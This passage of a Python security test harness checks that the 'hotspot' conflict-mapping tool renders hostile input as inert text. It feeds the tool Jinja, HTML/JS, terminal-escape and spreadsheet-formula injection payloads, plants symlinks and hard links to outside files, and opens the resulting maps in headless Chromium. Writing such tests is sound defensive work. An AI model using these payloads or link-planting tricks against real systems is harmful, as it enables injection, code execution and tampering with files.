_extract_rss_case("extract-rss-cli-2mb", 2, heavy=False, api=False)
_extract_rss_case("extract-rss-api-2mb", 2, heavy=False, api=True)
_extract_rss_case("extract-rss-cli-10mb", 10, heavy=True, api=False)


@case("geocoding", "locate-nan", "hotspot.locate with NaN and out-of-range coordinates")
def _(ctx: Ctx) -> Outcome:
    from hotspot.locate import locate

    call = ctx.api(
        locate,
        ([float("nan"), 95.0, 35.46], [44.4, 44.4, 44.39]),
        shown="hotspot.locate(([nan, 95.0, 35.46], [44.4, 44.4, 44.39]))",
    )
    if call.exc is not None:
        return api_error(call, ["lat", "latitude", "row", "nan", "95"])
    frame = call.value
    if len(frame) != 3:
        return out("silent row loss", f"3 points in, {len(frame)} out")
    row = frame.iloc[1]
    if any(isinstance(v, str) and v for v in row.to_dict().values()):
        return out("silent wrong result", f"latitude 95 located: {row.to_dict()}")
    return handled("3 rows out, impossible points located nowhere", bool(call.warnings))


# ====================================================================== output safety
def _injection_verdict(
    ctx: Ctx, run: Run, folder: Path | None, anchors: Iterable[str] = (), *, valid: bool = True
) -> Outcome:
    """Security first (payload ran), then the run's own verdict."""
    if ctx.pwn.exists():
        return out("security failure", "the EXEC payload created $HOTSPOT_PWN: code ran")
    texts = [run.stdout, run.stderr]
    if folder is not None and folder.is_dir():
        for path in sorted(folder.iterdir()):
            if path.suffix in (".html", ".txt", ".qml", ".csv", ".geojson"):
                texts.append(path.read_text(encoding="utf-8", errors="replace"))
    for text in texts:
        hit = evaluated_in(text)
        if hit:
            return out("security failure", f"a template payload was evaluated ({hit})")
    leak = terminal_leak(run.stdout, run.stderr)
    if leak:
        return out("security failure", f"control sequence reaches the terminal: {leak}")
    first = cli_first(run, anchors, valid=valid)
    if first:
        return first
    if folder is not None and (folder / "briefing_map.html").exists():
        page = (folder / "briefing_map.html").read_text(encoding="utf-8")
        for raw in ("<script>window.pwned", "<img src=x onerror", "<svg onload", "<b id=injected>"):
            if raw in page:
                return out("security failure", f"raw HTML payload in the map page: {raw}")
    return handled("nothing evaluated, nothing printed raw")


def _field_injection_case(column: str) -> None:
    @case(
        "output safety",
        f"jinja-in-{column}",
        f"Jinja payloads (incl. code execution) in every {column} cell (issue #15)",
    )
    def _(ctx: Ctx) -> Outcome:
        rows = base_rows(30)
        for i, r in enumerate(rows):
            payload = JINJA_PAYLOADS[i % len(JINJA_PAYLOADS)]
            if column == "id":
                r[column] = f"{payload}-{i}"
            elif column == "date":
                if i % 5 == 0:
                    r[column] = payload
            else:
                r[column] = payload
        fields = FIELDS if column in FIELDS else [*FIELDS, column]
        path = ctx.write(f"{column}.csv", csv_text(rows, fields))
        run, folder = analyze(ctx, path)
        return _injection_verdict(ctx, run, folder, [path.name])


for _column in ("event_type", "actor1", "notes", "place", "source", "sub_event_type", "id", "date"):
    _field_injection_case(_column)


@case("output safety", "jinja-file-name", "an incident file named X{{7*7}}Y.csv (issue #15)")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write(f"{J49}.csv", csv_text(base_rows(30)))
    run, folder = analyze(ctx, path)
    verdict = _injection_verdict(ctx, run, folder, [path.name])
    if verdict.category in PASSING and J49 not in summary_of(folder):
        return out("silent wrong result", "the file name is not shown as written in summary.txt")
    return verdict


@case("output safety", "exec-file-name", "an incident file named after the code-execution payload")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write(f"{EXEC}.csv", csv_text(base_rows(30)))
    run, folder = analyze(ctx, path)
    return _injection_verdict(ctx, run, folder, [path.name])


@case(
    "output safety",
    "jinja-report-file-name",
    "news reports named X{{7*7}}Y.txt and <b>{{6*6}}</b>.txt",
)
def _(ctx: Ctx) -> Outcome:
    a = ctx.write(
        f"{J49}.txt",
        "Published: 2024-03-01\nIS militants attacked a checkpoint near Daquq, killing two.\n",
    )
    b = ctx.write(
        "<b>Q{{ 'pw' ~ 'ned' }}Q<b>.txt", "Published: 2024-03-02\nAn IED exploded near Hawija.\n"
    )
    run, folder = analyze(ctx, a, b)
    return _injection_verdict(ctx, run, folder, [a.name])


@case("output safety", "jinja-map-title-api", "briefing_map(title='X{{7*7}}Y') (issue #15)")
def _(ctx: Ctx) -> Outcome:
    from hotspot.maps import briefing_map

    call = ctx.api(
        lambda: briefing_map(title=J49).get_root().render(),
        shown=f"briefing_map(title={J49!r}).get_root().render()",
    )
    if call.exc is not None:
        return api_error(call, ["title"], valid=True)
    hit = evaluated_in(call.value)
    if hit:
        return out("security failure", f"title evaluated: {hit}")
    return (
        handled("title shown as written")
        if J49 in html.unescape(call.value)
        else out("silent wrong result", "the title is not shown as written")
    )


@case(
    "output safety",
    "jinja-map-options-api",
    "briefing_map with payloads in title, as_of, sources and caveats; rendered twice",
)
def _(ctx: Ctx) -> Outcome:
    from hotspot.maps import briefing_map

    def render(as_of: str) -> str:
        m = briefing_map(
            title=EXEC, as_of=as_of, sources=[JCAT, *HTML_PAYLOADS[:2]], caveats=[JLOOP, "{% if"]
        )
        return m.get_root().render() + m.get_root().render()

    os.environ["HOTSPOT_PWN"] = str(ctx.pwn)
    # as_of is a date option (documented: "it must be a date"): a payload there is
    # refused, naming as_of, or shown as text; the free-text options take the others
    dated = ctx.api(
        render,
        "2024-01-31",
        shown="briefing_map(title=EXEC, as_of='2024-01-31', sources=[...], caveats=[...]) "
        "rendered twice",
    )
    payload = ctx.api(render, J49, shown=f"briefing_map(..., as_of={J49!r}) rendered twice")
    if ctx.pwn.exists():
        return out("security failure", "EXEC in the title ran")
    if dated.exc is not None:
        return api_error(dated, ["title", "caveat", "source"], valid=True)
    pages = [dated.value]
    if payload.exc is None:
        pages.append(payload.value)
    elif "as_of" not in str(payload.exc) or evaluated_in(str(payload.exc)):
        return api_error(payload, ["as_of"])
    for page in pages:
        hit = evaluated_in(page)
        if hit:
            return out("security failure", f"evaluated: {hit}")
        if "<script>window.pwned" in page or "<img src=x" in page:
            return out("security failure", "raw HTML payload in the page")
    return handled(
        "every text option shown as text; "
        + ("as_of shown as text" if payload.exc is None else "a payload as_of refused: not a date")
    )


# ---------------------------------------------------------------------- headless Chromium
_PROBE = """<script>
window.addEventListener('load', function () {
  setTimeout(function () {
    var texts = [];
    function grab() {
      document.querySelectorAll('.leaflet-tooltip, .leaflet-popup-content')
        .forEach(function (el) { texts.push(el.textContent); });
    }
    for (var key in window) {
      var map = window[key];
      if (!map || typeof L === 'undefined' || !(map instanceof L.Map)) continue;
      map.eachLayer(function (layer) {
        if (layer.eachLayer) return;
        if (!layer.getLatLng && !layer.getBounds) return;
        try {
          var ll = layer.getLatLng ? layer.getLatLng() : layer.getBounds().getCenter();
          layer.fire('mouseover', {latlng: ll}, true); grab();
          layer.fire('mouseout', {latlng: ll}, true);
          layer.fire('click', {latlng: ll}, true); grab();
          map.closePopup();
        } catch (e) { texts.push('probe-error: ' + e.message); }
      });
    }
    setTimeout(function () {
      var out = document.createElement('textarea');
      out.id = 'audit-probe';
      out.textContent = JSON.stringify({title: document.title, pwned: window.pwned || null,
        injected: !!document.getElementById('injected'), texts: texts});
      document.body.appendChild(out);
    }, 500);
  }, 800);
});
</script>"""


def chromium_probe(ctx: Ctx, page: Path) -> dict | Outcome:
    """Open every tooltip and popup of a saved map in headless Chromium; report what ran."""
    exe = (
        shutil.which("chromium")
        or shutil.which("chromium-browser")
        or shutil.which("google-chrome")
    )
    if exe is None:
        raise HarnessError("no Chromium to run the page")
    probe = page.with_name("audit-probe.html")
    probe.write_text(
        page.read_text(encoding="utf-8").replace("</body>", _PROBE + "</body>"), encoding="utf-8"
    )
    profile = ctx.p("chromium-profile")
    run = ctx.run(
        [
            exe,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--proxy-server=127.0.0.1:9",
            f"--user-data-dir={profile}",
            "--dump-dom",
            "--virtual-time-budget=10000",
            probe.as_uri(),
        ],
        timeout=120,
        shown=(
            f"chromium --headless --dump-dom {ctx.show(probe)}  (the map with a probe that "
            "opens every tooltip and popup)"
        ),
    )
    if run.timed_out:
        return out("timeout", "Chromium did not finish the page in 120 s")
    found = re.search(r'<textarea id="audit-probe">(.*?)</textarea>', run.stdout, re.S)
    if not found:
        raise HarnessError(f"the probe did not run: {run.stderr[-300:]}")
    report = json.loads(html.unescape(found.group(1)))
    report["dom_title"] = re.search(r"<title>(.*?)</title>", run.stdout, re.S)
    return report


def _chromium_verdict(ctx: Ctx, page: Path, payloads: Iterable[str]) -> Outcome:
    report = chromium_probe(ctx, page)
    if isinstance(report, Outcome):
        return report
    if ctx.pwn.exists():
        return out("security failure", "EXEC payload ran")
    if report["pwned"] or report["injected"] or "pwned" in (report["title"] or ""):
        return out(
            "security failure",
            f"a payload ran in Chromium: pwned={report['pwned']!r}, "
            f"injected element={report['injected']}, title={report['title']!r}",
        )
    shown = "\n".join(report["texts"])
    hit = evaluated_in(shown)
    if hit:
        return out("security failure", f"evaluated in the browser: {hit}")
    errors = [t for t in report["texts"] if t.startswith("probe-error")]
    payloads = list(payloads)
    missing = [p for p in payloads if p not in shown]
    what = f"{len(report['texts'])} tooltip/popup texts opened, nothing ran"
    if errors:
        what += f"; probe errors {errors[:2]}"
    if not report["texts"]:
        raise HarnessError("the probe opened no tooltip or popup")
    if missing:
        return handled(
            f"{what}; {len(missing)} of {len(payloads)} payload(s) not shown as written (e.g. "
            f"{missing[0][:40]!r})"
        )
    return handled(what + (f", all {len(payloads)} payloads shown as text" if payloads else ""))


@case(
    "output safety",
    "chromium-analyze-fields",
    "HTML/JS and Jinja payloads in every incident text field, opened in Chromium",
    timeout=240,
)
def _(ctx: Ctx) -> Outcome:
    payloads = [*HTML_PAYLOADS, J49, JCAT]
    rows = base_rows(30)
    for i, r in enumerate(rows):
        for j, column in enumerate(("event_type", "actor1", "notes", "place", "source")):
            r[column] = payloads[(i + j) % len(payloads)]
    path = ctx.write("html.csv", csv_text(rows))
    run, folder = analyze(ctx, path)
    verdict = _injection_verdict(ctx, run, folder, [path.name])
    if verdict.category not in PASSING:
        return verdict
    return _chromium_verdict(ctx, folder / "briefing_map.html", payloads)


@case(
    "output safety",
    "chromium-layer-attributes",
    "payloads in hotspot labels, zone labels, territory and control-line names (API map) in "
    "Chromium",
    timeout=240,
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    from hotspot.maps import briefing_map, save_map

    p = [*HTML_PAYLOADS, J49, JCAT]
    square = shapely.box(44.0, 35.0, 44.2, 35.2)
    n = len(p)
    layers = {
        "incidents": gpd.GeoDataFrame(
            {"event_type": p, "notes": p[::-1], "date": ["2024-01-01"] * n},
            geometry=[shapely.Point(44.0 + i / 100, 35.0 + i / 100) for i in range(n)],
            crs=4326,
        ),
        "hotspots": gpd.GeoDataFrame(
            {"hotspot": range(n), "label": p, "incidents": [3] * n}, geometry=[square] * n, crs=4326
        ),
        "zones": gpd.GeoDataFrame({"label": p}, geometry=[square] * n, crs=4326),
        "territories": gpd.GeoDataFrame(
            {"name": p, "governorate": p[::-1]}, geometry=[square] * n, crs=4326
        ),
        "control_lines": gpd.GeoDataFrame(
            {"side": ["federal", "krg"] * (n // 2), "name": p[: n // 2 * 2]},
            geometry=[
                shapely.LineString([(44, 35 + i / 50), (44.5, 35.1)]) for i in range(n // 2 * 2)
            ],
            crs=4326,
        ),
    }
    call = ctx.api(
        lambda: save_map(
            briefing_map(**layers, title=p[0], heatmap=True, time_slider=True), ctx.p("m.html")
        ),
        shown="save_map(briefing_map(incidents=..., hotspots=..., zones=..., territories=..., "
        "control_lines=..., title=<payload>, heatmap=True, time_slider=True), 'm.html') with "
        "payloads in every text attribute",
    )
    if call.exc is not None:
        return api_error(call, ["label", "name"], valid=True)
    page = ctx.p("m.html").read_text(encoding="utf-8")
    hit = evaluated_in(page)
    if hit:
        return out("security failure", f"evaluated: {hit}")
    return _chromium_verdict(ctx, ctx.p("m.html"), p)


@case(
    "output safety",
    "chromium-explore",
    "HotspotResult.explore() and GapResult.explore() with payload labels, in Chromium",
    timeout=240,
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import pandas as pd

    from hotspot.gaps import find_gaps
    from hotspot.hotspots import find_hotspots
    from hotspot.maps import save_map

    rows = base_rows(30)
    for i, r in enumerate(rows):
        r["event_type"] = HTML_PAYLOADS[i % len(HTML_PAYLOADS)]
        r["place"] = J49
    frame = gpd.GeoDataFrame(
        pd.DataFrame(rows).assign(date=lambda d: pd.to_datetime(d["date"])),
        geometry=gpd.points_from_xy(
            [float(r["longitude"]) for r in rows], [float(r["latitude"]) for r in rows]
        ),
        crs=4326,
    )

    def build() -> str:
        result = find_hotspots(frame, min_samples=5)
        result.hotspots["label"] = [
            HTML_PAYLOADS[i % len(HTML_PAYLOADS)] + J49 for i in range(len(result.hotspots))
        ]
        m = result.explore()
        gaps = find_gaps(gazetteer=False)
        gaps.zones["label"] = [EXEC + HTML_PAYLOADS[0]] * len(gaps.zones)
        m2 = gaps.explore()
        save_map(m, ctx.p("explore.html"))  # the project's offline save (inlines Leaflet)
        save_map(m2, ctx.p("explore_gaps.html"))
        return m.get_root().render() + m2.get_root().render()

    os.environ["HOTSPOT_PWN"] = str(ctx.pwn)
    call = ctx.api(
        build,
        shown=(
            "find_hotspots(frame with payloads).explore(); find_gaps().explore() with payload "
            "zone labels"
        ),
    )
    if ctx.pwn.exists():
        return out("security failure", "EXEC payload ran")
    if call.exc is not None:
        return api_error(call, ["label"], valid=True)
    hit = evaluated_in(call.value)
    if hit:
        return out("security failure", f"evaluated: {hit}")
    first = _chromium_verdict(ctx, ctx.p("explore.html"), [])
    if first.category not in PASSING:
        return first
    second = _chromium_verdict(ctx, ctx.p("explore_gaps.html"), [])
    if second.category not in PASSING:
        return second
    return handled(f"explore(): {first.reason}; gaps explore(): {second.reason}")


# ---------------------------------------------------------------------- other text paths
@case(
    "output safety",
    "control-line-attribute-payloads",
    "payloads in a control line's name/as_of attributes (--federal)",
)
def _(ctx: Ctx) -> Outcome:
    fed = _bundled_line("federal").copy()
    fed["name"] = EXEC + " " + HTML_PAYLOADS[1]
    fed["as_of"] = J49 + " ]]> <!--"
    path = ctx.p("fed.geojson")
    fed.to_file(path)
    ctx.record(path)
    run, folder = analyze(ctx, None, "--federal", path)
    verdict = _injection_verdict(ctx, run, folder, [path.name])
    if verdict.category not in PASSING:
        return verdict
    import xml.etree.ElementTree as ET

    try:
        for qml in folder.glob("*.qml"):
            ET.fromstring(qml.read_text(encoding="utf-8").split("\n", 1)[1])
    except ET.ParseError as exc:
        return out("silent wrong result", f"{qml.name} is not well-formed XML: {exc}")
    return verdict


@case(
    "output safety",
    "gazetteer-label-payloads",
    "a user gazetteer whose place names are payloads; incidents geocoded by place name",
)
def _(ctx: Ctx) -> Outcome:
    names = [J49 + "<script>window.pwned=1</script>", EXEC, "\x1b[31m" + JCAT + "\x1b[0m"]
    gaz = _gazetteer_file(
        ctx, "places.csv", [(n, 35.20 + i * 0.3, 44.10) for i, n in enumerate(names)]
    )
    rows = [{"date": f"2024-01-{i % 28 + 1:02d}", "site": names[i % 3]} for i in range(36)]
    path = ctx.write("sites.csv", csv_text(rows, ["date", "site"]))
    run, folder = analyze(ctx, path, "--place-column", "site", "--gazetteer", gaz)
    return _injection_verdict(ctx, run, folder, [path.name, gaz.name])


@case(
    "output safety",
    "qml-xml-payloads",
    "XML payloads (]]>, <!--, &, quotes) as event types: QGIS styles parse",
)
def _(ctx: Ctx) -> Outcome:
    import xml.etree.ElementTree as ET

    payloads = [
        "]]>",
        "a & b",
        "<!-- x -->",
        "\"q' <![CDATA[x]]>",
        "\x01ctl",
        "<?xml version='1.0'?>",
    ]
    rows = base_rows(30)
    for i, r in enumerate(rows):
        r["event_type"] = payloads[i % len(payloads)]
    path = ctx.write("xml.csv", csv_text(rows))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    try:
        root = ET.fromstring(
            (folder / "incidents.qml").read_text(encoding="utf-8").split("\n", 1)[1]
        )
        with sqlite3.connect(folder / "analysis.gpkg") as con:
            for (qml,) in con.execute("select styleQML from layer_styles"):
                ET.fromstring(qml.split("\n", 1)[1])
    except (ET.ParseError, sqlite3.Error) as exc:
        return out("silent wrong result", f"a QGIS style does not parse: {exc}")
    values = {c.get("value") for c in root.iter("category")}
    lost = [p for p in payloads[:4] + payloads[5:] if p not in values]
    if lost:
        return out("silent wrong result", f"categories changed: {lost}")
    return handled("styles parse, categories literal")


def _ansi_field_case(column: str) -> None:
    @case(
        "output safety",
        f"ansi-in-{column}",
        f"ANSI/OSC escapes in {column}: terminal and summary.txt",
    )
    def _(ctx: Ctx) -> Outcome:
        rows = base_rows(30)
        for i, r in enumerate(rows):
            if column != "date" or i % 4 == 0:
                r[column] = ANSI_PAYLOADS[i % len(ANSI_PAYLOADS)] + (
                    f"-{i}" if column == "id" else ""
                )
        path = ctx.write(f"ansi_{column}.csv", csv_text(rows))
        run, folder = analyze(ctx, path)
        leak = terminal_leak(run.stdout, run.stderr)
        if leak:
            return out("security failure", f"control sequence printed: {leak}")
        first = cli_first(run, [path.name], valid=True)
        if first:
            return first
        leak = terminal_leak(summary_of(folder))
        return (
            out("security failure", f"control sequence in summary.txt: {leak}")
            if leak
            else handled("terminal output and summary.txt clean")
        )


for _column in ("event_type", "place", "notes", "date", "id"):
    _ansi_field_case(_column)


@case(
    "output safety", "ansi-file-name", "an incident file name with ESC[2J and an OSC title sequence"
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("brief\x1b[2J\x1b]0;owned\x07.csv", csv_text(base_rows(30)))
    run, _folder = analyze(ctx, path)
    leak = terminal_leak(run.stdout, run.stderr)
    return (
        out("security failure", f"printed: {leak}")
        if leak
        else (cli_first(run, ["brief"], valid=True) or handled("clean"))
    )


@case("output safety", "ansi-out-folder", "an --out folder name with escape sequences")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run, _folder = analyze(ctx, path, out_name="out\x1b[31mred\x1b]0;t\x07")
    leak = terminal_leak(run.stdout, run.stderr)
    return (
        out("security failure", f"printed: {leak}")
        if leak
        else (cli_first(run, ["out"], valid=True) or handled("clean"))
    )


@case(
    "output safety",
    "ansi-column-names",
    "column names with escapes in a table the CLI refuses (error lists the columns)",
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("cols.csv", "when\x1b[2J,\x1b]0;x\x07where,\x9bwhat\n2024-01-01,Kirkuk,IED\n")
    run, _ = analyze(ctx, path)
    leak = terminal_leak(run.stdout, run.stderr)
    return (
        out("security failure", f"printed: {leak}")
        if leak
        else (cli_first(run, [path.name]) or handled("ran"))
    )


@case("output safety", "ansi-gaps-incidents", "escape sequences in incidents given to hotspot gaps")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    for i, r in enumerate(rows):
        r["place"] = ANSI_PAYLOADS[i % len(ANSI_PAYLOADS)]
        if i % 6 == 0:
            r["date"] = ANSI_PAYLOADS[i % len(ANSI_PAYLOADS)]
    path = ctx.write("g.csv", csv_text(rows))
    run, _ = _gaps(ctx, "--incidents", path)
    leak = terminal_leak(run.stdout, run.stderr)
    return (
        out("security failure", f"printed: {leak}")
        if leak
        else (cli_first(run, [path.name], valid=True) or handled("clean"))
    )


@case(
    "output safety",
    "formula-cells-analyze",
    "formula payloads in incident fields: every CSV that analyze writes (issue #15)",
)
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    for i, r in enumerate(rows):
        for column in ("event_type", "place", "notes", "actor1", "source"):
            r[column] = FORMULA_PAYLOADS[i % len(FORMULA_PAYLOADS)]
    path = ctx.write("f.csv", csv_text(rows))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    bad = {p.name: formula_cells(p.read_text(encoding="utf-8")) for p in folder.glob("*.csv")}
    bad = {k: v for k, v in bad.items() if v}
    return (
        out("security failure", f"live formulas: {bad}")
        if bad
        else handled(f"{len(list(folder.glob('*.csv')))} CSV file(s), no live formula")
    )


@case(
    "output safety",
    "formula-cells-gaps",
    "formula payloads in incidents and layer labels: every CSV that gaps writes",
)
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    for i, r in enumerate(rows):
        for column in ("event_type", "place", "notes"):
            r[column] = FORMULA_PAYLOADS[i % len(FORMULA_PAYLOADS)]
    path = ctx.write("f.csv", csv_text(rows))
    fed = _bundled_line("federal").copy()
    fed["name"] = FORMULA_PAYLOADS[0]
    fed.to_file(ctx.p("fed.geojson"))
    ctx.record(ctx.p("fed.geojson"), note="the bundled federal line named =HYPERLINK(...)")
    run, folder = _gaps(ctx, "--incidents", path, "--federal", ctx.p("fed.geojson"))
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    bad = {p.name: formula_cells(p.read_text(encoding="utf-8")) for p in folder.glob("*.csv")}
    bad = {k: v for k, v in bad.items() if v}
    return out("security failure", f"live formulas: {bad}") if bad else handled("no live formula")


@case("output safety", "payload-column-name", "a CSV column named <script>…</script>{{7*7}}")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    column = "<script>window.pwned=1</script>X{{7*7}}Y"
    for r in rows:
        r[column] = "value"
    path = ctx.write("col.csv", csv_text(rows, [*FIELDS, column]))
    run, folder = analyze(ctx, path)
    return _injection_verdict(ctx, run, folder, [path.name])


@case("output safety", "xlsx-payloads", "payloads in the cells of an Excel workbook")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    table = [FIELDS, *([r[f] for f in FIELDS] for r in rows)]
    for i, row in enumerate(table[1:]):
        row[4] = JINJA_PAYLOADS[i % 4]
        row[7] = HTML_PAYLOADS[i % len(HTML_PAYLOADS)]
        row[2], row[3] = float(row[2]), float(row[3])
    path = _workbook(ctx.p("payloads.xlsx"), {"Data": table})
    ctx.record(path, note="30 incidents; event_type cells hold Jinja payloads, notes HTML payloads")
    run, folder = analyze(ctx, path)
    return _injection_verdict(ctx, run, folder, [path.name])


def _repr_case(cid: str, title: str, build: Callable[[Ctx], Any]) -> None:
    @case("output safety", cid, title)
    def _(ctx: Ctx) -> Outcome:
        os.environ["HOTSPOT_PWN"] = str(ctx.pwn)
        call = ctx.api(lambda: build(ctx)._repr_html_(), shown=f"{title}: ._repr_html_()")
        if ctx.pwn.exists():
            return out("security failure", "EXEC payload ran")
        if call.exc is not None:
            return api_error(call, [], valid=True)
        page = call.value
        for raw in (
            "<script>window.pwned",
            "<img src=x",
            "<svg onload",
            "<b id=injected>",
            "<iframe",
        ):
            if raw in page:
                return out("security failure", f"raw HTML payload in _repr_html_: {raw}")
        hit = evaluated_in(page)
        if hit:
            return out("security failure", f"evaluated: {hit}")
        leak = TERMINAL_BAD.search(page.replace("\r\n", "\n"))
        return handled("escaped" + ("; control characters kept in the HTML" if leak else ""))


def _payload_frame(n: int = 30):
    import geopandas as gpd
    import pandas as pd

    rows = base_rows(n)
    frame = pd.DataFrame(rows)
    p = [*HTML_PAYLOADS, *JINJA_PAYLOADS]
    for column in ("event_type", "actor1", "notes", "place", "source"):
        frame[column] = [p[i % len(p)] for i in range(n)]
    return gpd.GeoDataFrame(
        frame.assign(date=pd.to_datetime(frame["date"])),
        geometry=gpd.points_from_xy(
            frame["longitude"].astype(float), frame["latitude"].astype(float)
        ),
        crs=4326,
    )


def _analysis_with_payloads(ctx: Ctx):
    from hotspot.analyze import analyze as run_analysis

    path = ctx.write("<b>X{{7*7}}Y</b>.csv", csv_text(base_rows(30)))
    frame = _payload_frame()
    frame.drop(columns="geometry").to_csv(path, index=False)
    return run_analysis(path, min_samples=5)


def _hotspots_with_payloads(ctx: Ctx):
    from hotspot.hotspots import find_hotspots

    result = find_hotspots(_payload_frame(), min_samples=5)
    result.hotspots["label"] = [
        HTML_PAYLOADS[i % len(HTML_PAYLOADS)] + J49 for i in range(len(result.hotspots))
    ]
    return result


def _gaps_with_payloads(ctx: Ctx):
    from hotspot.gaps import find_gaps

    fed = _bundled_line("federal").copy()
    fed["name"] = HTML_PAYLOADS[0] + J49
    result = find_gaps(fed, _bundled_line("krg"), incidents=_payload_frame(), gazetteer=False)
    result.zones["label"] = [HTML_PAYLOADS[1] + JCAT] * len(result.zones)
    return result


def _emerging_with_payloads(ctx: Ctx):
    import pandas as pd

    from hotspot.emerging import emerging_hotspots

    frame = _payload_frame(120)
    frame["date"] = pd.date_range("2022-01-01", periods=120, freq="7D")
    frame[HTML_PAYLOADS[0]] = 1
    return emerging_hotspots(frame, weights=HTML_PAYLOADS[0])


def _resolution_with_payload(ctx: Ctx):
    from hotspot.geocode import resolve

    return resolve(HTML_PAYLOADS[1] + J49)


_repr_case(
    "repr-analysis",
    "Analysis from a file named <b>X{{7*7}}Y</b>.csv with payload fields",
    _analysis_with_payloads,
)
_repr_case("repr-hotspots", "HotspotResult with payload fields and labels", _hotspots_with_payloads)
_repr_case(
    "repr-gaps", "GapResult with payload line name, zone labels and incidents", _gaps_with_payloads
)
_repr_case("repr-emerging", "EmergingResult with a payload weights column", _emerging_with_payloads)
_repr_case("repr-resolution", "Resolution of a payload name", _resolution_with_payload)


# ====================================================================== output folders and faults
ANALYZE_NAMES = [
    "incidents.geojson",
    "hotspots.geojson",
    "vacuum_zones.geojson",
    "gaps_profile.csv",
    "gaps_profile.geojson",
    "gaps_segments.geojson",
    "disputed_territories.geojson",
    "control_lines.geojson",
    "analysis.gpkg",
    "briefing_map.html",
    "briefing_map.png",
    "summary.txt",
    "incidents.qml",
    "hotspots.qml",
    "vacuum_zones.qml",
    "hotspot_manifest.json",
]
GAPS_NAMES = [
    "gaps_zones.geojson",
    "gaps_zones.qml",
    "gaps_profile.geojson",
    "gaps_profile.qml",
    "gaps_segments.geojson",
    "gaps_profile.csv",
    "gaps_overlay.csv",
    "hotspot_manifest.json",
]


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _plant(
    ctx: Ctx, folder: Path, names: Iterable[str], *, hard: bool = False
) -> dict[Path, bytes]:
    folder.mkdir(parents=True, exist_ok=True)
    outside = ctx.p("outside")
    outside.mkdir(exist_ok=True)
    victims = {}
    for name in names:
        target = outside / f"victim-{name}"
        target.write_bytes(b"precious " + name.encode())
        if hard:
            os.link(target, folder / name)
        else:
            (folder / name).symlink_to(target)
        victims[target] = target.read_bytes()
    kind = "hard links" if hard else "symbolic links"
    ctx.note(f"setup: {kind} planted in {folder} under the output names, to files in $T/outside")
    return victims


def _victims_verdict(victims: dict[Path, bytes]) -> str | None:
    hit = [p.name for p, content in victims.items() if not p.exists() or p.read_bytes() != content]
    return (
        f"{len(hit)} of {len(victims)} files outside --out written or removed: {hit[:4]}"
        if hit
        else None
    )


def _manifest_consistent(folder: Path) -> str | None:
    """None when every file the manifest lists is there with its hash; else what is wrong."""
    path = folder / "hotspot_manifest.json"
    if not path.exists():
        return "no manifest"
    try:
        manifest = json.loads(path.read_text(encoding="utf-8"))
    except ValueError as exc:
        return f"manifest unreadable: {exc}"
    bad = [
        n
        for n, e in manifest["files"].items()
        if not (folder / n).is_file() or _sha(folder / n) != e["sha256"]
    ]
    return f"files differ from the manifest: {bad}" if bad else None


def _complete_files(folder: Path) -> str | None:
    """None when every output under its final name is complete (parses)."""
    for path in folder.iterdir():
        if not path.is_file():
            continue
        try:
            if path.suffix in (".geojson", ".json"):
                json.loads(path.read_text(encoding="utf-8"))
            elif path.suffix == ".gpkg":
                with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as con:
                    if con.execute("pragma integrity_check").fetchone()[0] != "ok":
                        return f"{path.name}: integrity check failed"
            elif (
                path.suffix == ".html"
                and not path.read_text(encoding="utf-8").rstrip().endswith("</html>")
            ) or (path.suffix == ".png" and not path.read_bytes().endswith(b"IEND\xaeB`\x82")):
                return f"{path.name} is truncated"
        except (ValueError, sqlite3.Error, UnicodeDecodeError) as exc:
            return f"{path.name} is truncated or corrupt: {str(exc)[:80]}"
    return None


@case(
    "output folders and faults",
    "symlinks-analyze",
    "symbolic links planted in --out under every output name (issue #15)",
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    victims = _plant(ctx, folder, ANALYZE_NAMES)
    run, _ = analyze(ctx, None, out_path=folder)
    hit = _victims_verdict(victims)
    if hit:
        return out("security failure", hit)
    return cli_first(run, ["out"], valid=True) or handled("links replaced, never followed")


@case(
    "output folders and faults",
    "symlinks-gaps",
    "symbolic links planted under the gaps output names",
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("gaps")
    victims = _plant(ctx, folder, GAPS_NAMES)
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run, _ = _gaps(ctx, "--incidents", path)
    hit = _victims_verdict(victims)
    return (
        out("security failure", hit)
        if hit
        else (cli_first(run, ["gaps"], valid=True) or handled("links not followed"))
    )


@case(
    "output folders and faults",
    "hardlinks-analyze",
    "hard links to outside files planted under the output names",
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    victims = _plant(ctx, folder, ANALYZE_NAMES, hard=True)
    run, _ = analyze(ctx, None, out_path=folder)
    hit = _victims_verdict(victims)
    return (
        out("security failure", hit)
        if hit
        else (cli_first(run, ["out"], valid=True) or handled("hard links replaced, victims intact"))
    )


@case(
    "output folders and faults",
    "symlink-staging-leftover",
    "a symlink named like a killed run's staging folder, pointing outside",
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    folder.mkdir()
    outside = ctx.p("outside")
    outside.mkdir()
    (outside / "precious.txt").write_text("keep me", encoding="utf-8")
    (folder / ".hotspot-staging-zzzz").symlink_to(outside, target_is_directory=True)
    ctx.note("setup: $T/out/.hotspot-staging-zzzz -> $T/outside (holds precious.txt)")
    run, _ = analyze(ctx, None, out_path=folder)
    if not (outside / "precious.txt").exists():
        return out("security failure", "the folder behind the link was emptied")
